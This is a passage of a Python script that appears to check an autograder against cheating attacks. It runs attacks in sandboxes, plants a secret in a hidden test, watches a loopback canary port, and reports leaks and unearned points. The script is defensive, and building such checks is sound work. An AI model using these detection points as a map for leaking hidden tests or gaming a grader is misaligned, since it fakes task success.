        verdict.problems += [f"HARM: {leak}" for leak in leaks([output], self.secret, self.markers)]
        for learner in learners:  # what each learner's files show (pytest.log, card, results.json)
            texts = [p.read_text(encoding="utf-8", errors="replace") for p in (out / learner).glob("*") if p.is_file()]
            verdict.problems += [f"HARM: {learner}: {leak}" for leak in leaks(texts, self.secret, self.markers)]
        for learner, canary in canaries.items():
            canary.close()
            if canary.heard:
                verdict.problems.append(f"HARM: {learner}: reached a loopback port: {canary.heard[0]}")
        if verdict.problems:
            (self.work / f"{name}.log").write_text(output, encoding="utf-8")
        return grades, verdict

    def hidden_tests(self) -> Path:
        """A hidden test (every learner's app answers something at /): its text carries the secret."""
        hidden = self.work / "hidden"
        hidden.mkdir()
        (hidden / "test_04_hidden.py").write_text(
            f'def test_the_app_answers(client):\n    assert client.get("/").status_code < 600\n# {self.secret}\n',
            encoding="utf-8")
        return hidden

    def class_runs(self, attacks: list[Attack]) -> tuple[dict[str, dict[str, float]], list[Verdict]]:
        """Honest learners alone, then with every cheat; answers the cheats' points and the runs' verdicts."""
        hidden = self.hidden_tests()
        honest = {"honest-full": None, "honest-baseline": None}
        alone, first = self.grade_class("class-honest", honest, hidden)
        together = {**honest, **{a.name: a for a in attacks if a.in_class == "yes"}}
        grades, second = self.grade_class("class", together, hidden)
        verdicts = [first, second]
        for attack in attacks:
            if attack.in_class == "alone":
                found, verdict = self.grade_class(f"class-{attack.name}", {"honest-baseline": None,
                                                                           attack.name: attack}, hidden)
                verdicts.append(verdict)
                grades[attack.name] = found.get(attack.name, {})
                if found.get("honest-baseline") != alone.get("honest-baseline"):
                    verdict.problems.append(f"HARM: {attack.name}: beside it, honest-baseline got "
                                            f"{found.get('honest-baseline')}, alone {alone.get('honest-baseline')}")
        for learner in honest:
            if grades.get(learner) != alone.get(learner):
                second.problems.append(f"HARM: {learner} got {grades.get(learner)} in the class, "
                                       f"{alone.get(learner)} alone")
        baseline = alone.get("honest-baseline", {})
        for attack in attacks:
            found = grades.get(attack.name)
            if found is None:
                continue
            for step, points in found.items():
                if points > baseline.get(step, 0):
                    second.problems.append(f"GAIN: {attack.name}: earned {points:g} in step {step} of the class "
                                           f"run, the baseline {baseline.get(step, 0):g}")
        grades["baseline"] = baseline
        return grades, verdicts


# --- The table ---------------------------------------------------------------------


def total(points: dict[str, float] | None) -> str:
    return "-" if not points else f"{sum(points.values()):g}"


def main() -> int:
    if sys.argv[1:2] == ["--reap"]:  # the wrapper of one run (see run())
        return reap_after(sys.argv[4:], sys.argv[2])
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--only", nargs="+", metavar="NAME", help="try only these attacks")
    parser.add_argument("--no-class", action="store_true", help="skip the class run")
    parser.add_argument("--keep", action="store_true", help="keep the work folder (its path is printed)")
    parser.add_argument("--jobs", type=int, default=2, help="single runs at once (default 2); a run with a "
                        "problem is tried again alone, so that what it did is not blamed on its neighbour")
    args = parser.parse_args()
    if shutil.which("bwrap") is None:
        raise SystemExit("check_cheats.py needs bubblewrap (Debian/Ubuntu: apt-get install bubblewrap)")
    attacks = [a for a in ATTACKS if not args.only or a.name in args.only]
    if args.only and len(attacks) != len(args.only):
        raise SystemExit(f"unknown attack; the attacks: {', '.join(a.name for a in ATTACKS)}")
    work = Path(tempfile.mkdtemp(prefix="cheats-"))
    started = time.monotonic()
    try:
        checker = Checker(work)
        original = snapshot(checker.watched)
        baseline = checker.baseline()
        singles = [attack for attack in attacks if attack.single]

        def try_alone(attack: Attack) -> Verdict:
            verdict = checker.single(attack, baseline)
            print(f"  {attack.name}: {'ok' if verdict.ok else 'PROBLEM'} ({verdict.seconds:.0f} s)", flush=True)
            return verdict

        with ThreadPoolExecutor(max_workers=max(1, args.jobs)) as pool:
            verdicts = dict(zip([a.name for a in singles], pool.map(try_alone, singles), strict=True))
        if args.jobs > 1:
            for attack in singles:
                if not verdicts[attack.name].ok:
                    print(f"  {attack.name} again, alone:", end="", flush=True)
                    shutil.rmtree(work / "single" / attack.name)
                    verdicts[attack.name] = try_alone(attack)
        class_grades: dict[str, dict[str, float]] = {}
        class_verdicts: list[Verdict] = []
        if not args.no_class:
            class_grades, class_verdicts = checker.class_runs(attacks)
        print()
        rows = [("attack", "steps", "points", "baseline", "class", "class baseline", "verdict")]
        class_problems = [p for v in class_verdicts for p in v.problems]
        for attack in attacks:
            single = verdicts.get(attack.name)
            mine = [p for p in class_problems if f": {attack.name}:" in p]
            problems = (single.problems if single else []) + mine
            verdict = "+".join(sorted({problem.split(":")[0] for problem in problems})) or "ok"
            numbers = sorted({attack.step, CHECKED_STEP}) if attack.step else []
            rows.append((attack.name, "+".join(numbers) or "class",
                         total(single.points) if single else "-",
                         total({n: baseline[n] for n in numbers}) if single else "-",
                         total(class_grades.get(attack.name)) if attack.in_class != "no" else "-",
                         total(class_grades.get("baseline")) if class_grades else "-", verdict))
        widths = [max(len(row[i]) for row in rows) for i in range(len(rows[0]))]
        for index, row in enumerate(rows):
            print("  ".join(cell.ljust(width) for cell, width in zip(row, widths, strict=True)).rstrip())
            if index == 0:
                print("  ".join("-" * width for width in widths))
        problems = [(name, p) for name, v in verdicts.items() for p in v.problems]
        problems += [(v.name, p) for v in class_verdicts for p in v.problems]
        end = changes(original, snapshot(checker.watched))
        if end:
            problems.append(("(whole check)", f"HARM: this checkout changed during the check: {end[:3]}; "
                                              "restore it (git status) before trusting another run"))
        if problems:
            print("\nGains and harms (full logs in the work folder):")
            for name, problem in problems:
                print(f"  {name}: {problem}")
        print(f"\n{len(attacks)} attacks, {'gains or harms found' if problems else 'no gain, no harm'} "
              f"in {time.monotonic() - started:.0f} s")
        return 1 if problems else 0
    finally:
        if args.keep or "problems" in locals() and problems:
            print(f"work folder: {work}")
        else:
            shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
